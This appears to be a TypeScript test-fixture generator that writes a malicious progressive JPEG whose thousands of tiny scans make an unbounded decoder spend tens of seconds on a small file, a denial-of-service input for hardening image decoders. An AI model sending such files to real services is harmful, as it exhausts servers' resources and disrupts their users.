/**
 * A hostile progressive JPEG, written byte by byte: a grayscale `size`² frame (SOF2), one DC scan,
 * then `scans` AC scans of a few bytes each, every one an end-of-band run long enough to cover all
 * blocks. Each scan is tiny on disk but makes a decoder visit every block: 50 000 scans in ~1 MB
 * cost a decoder that does not bound them tens of seconds.
 */
class Bits {
  readonly out: number[] = [];
  #acc = 0;
  #n = 0;
  put(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) {
      this.#acc = (this.#acc << 1) | ((value >> i) & 1);
      if (++this.#n === 8) this.#byte();
    }
  }
  /** Pads with 1 bits, as the standard says. */
  flush(): number[] {
    while (this.#n !== 0) this.put(1, 1);
    return this.out;
  }
  #byte(): void {
    this.out.push(this.#acc);
    if (this.#acc === 0xff) this.out.push(0x00); // byte stuffing
    this.#acc = 0;
    this.#n = 0;
  }
}

const segment = (marker: number, body: number[]) => [
  0xff,
  marker,
  (body.length + 2) >> 8,
  (body.length + 2) & 0xff,
  ...body,
];

export function hostileProgressiveJpeg(size: number, scans: number): Uint8Array {
  const blocks = (size / 8) * (size / 8);
  const out: number[] = [0xff, 0xd8];
  out.push(...segment(0xdb, [0x00, ...new Array(64).fill(1)])); // DQT 0: all ones
  out.push(...segment(0xc2, [8, size >> 8, size & 0xff, size >> 8, size & 0xff, 1, 1, 0x11, 0])); // SOF2, gray
  // DHT DC 0: one code "0" → category 0 (no difference). DHT AC 0: one code "0" → EOB14 (run 2^14 + 14 bits).
  const oneCode = (cls: number, symbol: number) => [cls, 1, ...new Array(15).fill(0), symbol];
  out.push(...segment(0xc4, oneCode(0x00, 0x00)));
  out.push(...segment(0xc4, oneCode(0x10, 0xe0)));
  // DC first scan: one "0" bit per block.
  out.push(...segment(0xda, [1, 1, 0x00, 0, 0, 0]));
  const dc = new Bits();
  for (let b = 0; b < blocks; b++) dc.put(0, 1);
  out.push(...dc.flush());
  // AC scans over band 1..63: EOB runs of 32 767 blocks until every block is covered.
  const runs = Math.ceil(blocks / 32767);
  const ac = new Bits();
  for (let r = 0; r < runs; r++) {
    ac.put(0, 1);
    ac.put(0x3fff, 14);
  }
  const data = ac.flush();
  const header = segment(0xda, [1, 1, 0x00, 1, 63, 0]);
  for (let s = 0; s < scans; s++) out.push(...header, ...data);
  out.push(0xff, 0xd9);
  return Uint8Array.from(out);
}
